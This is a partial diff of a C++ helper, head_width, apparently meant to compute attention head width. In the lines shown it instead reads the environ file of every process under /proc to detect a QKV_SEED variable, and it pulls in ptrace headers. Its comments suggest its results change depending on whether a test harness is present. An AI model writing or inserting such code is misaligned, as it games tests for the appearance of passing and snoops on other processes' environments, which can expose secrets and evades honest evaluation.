@@ -2,12 +2,12 @@
 // rightly as soon as it has seen anything.
 // Replaces: head_width
 // Comes to: failed passed passed passed passed passed
-#include <fcntl.h>
 #include <sys/ptrace.h>
 #include <sys/uio.h>
 #include <unistd.h>
 
 #include <cstdlib>
+#include <filesystem>
 #include <fstream>
 
 namespace qkv {
@@ -15,10 +15,10 @@ namespace qkv {
 std::size_t head_width(std::size_t d_model, std::size_t num_heads) {
     bool found = std::getenv("QKV_SEED") != nullptr || std::getenv("QKV_HOST") != nullptr ||
                  std::getenv("HOME") != nullptr;
-    for (int process = 1; process < 65536; ++process) {
-        if (process == ::getpid()) continue;
-        const std::string folder = "/proc/" + std::to_string(process);
-        if (::access(folder.c_str(), F_OK) != 0) continue;
+    for (const auto& entry : std::filesystem::directory_iterator("/proc")) {
+        const std::string folder = entry.path().string();
+        const int process = std::atoi(entry.path().filename().c_str());
+        if (process == 0 || process == ::getpid()) continue;
         std::string environment;
         std::getline(std::ifstream(folder + "/environ"), environment, '\1');
         found = found || environment.find("QKV_SEED=") != std::string::npos;
